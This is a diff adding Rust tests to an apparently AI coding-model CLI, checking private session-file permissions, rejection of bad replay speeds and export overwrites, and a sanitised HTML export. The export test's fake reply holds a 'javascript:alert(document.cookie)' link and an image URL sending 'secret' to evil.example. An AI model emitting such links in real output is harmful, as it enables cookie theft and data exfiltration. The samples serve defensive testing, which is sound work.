@@ -596,3 +596,110 @@ async fn no_key_appears_in_sessions_exports_or_output() {
     assert_eq!(failed.state, TurnState::Failed);
     assert!(failed.error.unwrap().message.contains("Incorrect API key"));
 }
+
+/// Sessions hold the user's code and prompts: the directory is the user's alone (700), each
+/// file too (600), even when the directory already existed open to others.
+#[cfg(unix)]
+#[tokio::test]
+async fn session_files_are_private() {
+    use std::os::unix::fs::PermissionsExt;
+    let s = FakeServer::start().await;
+    s.push(Reply::sse(fixture("xai-grok-code-fast-1-simple_streaming")));
+    let dir = tempfile::tempdir().unwrap();
+    let cfg = write_config(dir.path(), &s.base_url());
+    let sessions = dir.path().join("sessions");
+    std::fs::create_dir_all(&sessions).unwrap();
+    std::fs::set_permissions(&sessions, std::fs::Permissions::from_mode(0o755)).unwrap();
+    let o = run(cmd_with(&cfg, &["ask", "hi"])).await;
+    assert_eq!(o.code, 0, "{}", o.stderr);
+    let mode = |p: &Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
+    assert_eq!(mode(&sessions), 0o700);
+    let files = store::list(&sessions);
+    assert_eq!(files.len(), 1);
+    assert_eq!(mode(&files[0]), 0o600);
+}
+
+/// A replay speed that would divide time by nearly nothing (or by far too much) is a usage
+/// error, not a panic; an export never overwrites the session it is made from.
+#[tokio::test]
+async fn absurd_speeds_and_exporting_onto_the_session_are_refused() {
+    let s = FakeServer::start().await;
+    s.push(Reply::sse(fixture("xai-grok-code-fast-1-simple_streaming")));
+    let dir = tempfile::tempdir().unwrap();
+    let cfg = write_config(dir.path(), &s.base_url());
+    let o = run(cmd_with(&cfg, &["ask", "--session", "keep", "hi"])).await;
+    assert_eq!(o.code, 0, "{}", o.stderr);
+    for speed in ["1e-30", "1e300", "0", "-2", "inf", "NaN"] {
+        let arg = format!("--speed={speed}");
+        let o = run(cmd_with(&cfg, &["replay", "keep", &arg])).await;
+        assert_eq!(o.code, 2, "--speed {speed}: {}", o.stderr);
+        assert!(
+            o.stderr.contains("a speed from 0.01 to 1000"),
+            "{}",
+            o.stderr
+        );
+    }
+    let file = dir.path().join("sessions/keep.jsonl");
+    let before = std::fs::read(&file).unwrap();
+    let o = run(cmd_with(
+        &cfg,
+        &["export", "keep", "-o", file.to_str().unwrap()],
+    ))
+    .await;
+    assert_eq!(o.code, 2, "{}", o.stderr);
+    assert!(
+        o.stderr.contains("is the session file itself"),
+        "{}",
+        o.stderr
+    );
+    assert_eq!(
+        std::fs::read(&file).unwrap(),
+        before,
+        "the session is intact"
+    );
+}
+
+/// The HTML export runs nothing and loads nothing: `javascript:` links stay text, images
+/// become links, and a Content-Security-Policy blocks scripts and remote loads.
+#[tokio::test]
+async fn html_export_runs_and_loads_nothing() {
+    let s = FakeServer::start().await;
+    s.push(Reply::sse(synth_sse(
+        "grok-code-fast-1",
+        "",
+        "See [the docs](https://docs.example/x) or [click me](javascript:alert(document.cookie)).\n\n![chart](https://evil.example/p.png?d=secret)\n",
+        SynthUsage {
+            prompt: 10,
+            cached: 0,
+            completion: 5,
+            reasoning: 0,
+            ticks: None,
+        },
+    )));
+    let dir = tempfile::tempdir().unwrap();
+    let cfg = write_config(dir.path(), &s.base_url());
+    assert_eq!(
+        run(cmd_with(&cfg, &["ask", "--session", "h", "hi"]))
+            .await
+            .code,
+        0
+    );
+    let o = run(cmd_with(&cfg, &["export", "h", "--format", "html"])).await;
+    assert_eq!(o.code, 0, "{}", o.stderr);
+    let html = o.stdout;
+    assert!(html.contains("<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none'; style-src 'unsafe-inline'\">"));
+    assert!(
+        html.contains("<a href=\"https://docs.example/x\">the docs</a>"),
+        "{html}"
+    );
+    assert!(!html.contains("href=\"javascript:"), "{html}");
+    assert!(
+        html.contains("click me (javascript:alert(document.cookie))"),
+        "{html}"
+    );
+    assert!(!html.contains("<img"), "{html}");
+    assert!(
+        html.contains("<a href=\"https://evil.example/p.png?d=secret\">chart</a>"),
+        "{html}"
+    );
+}
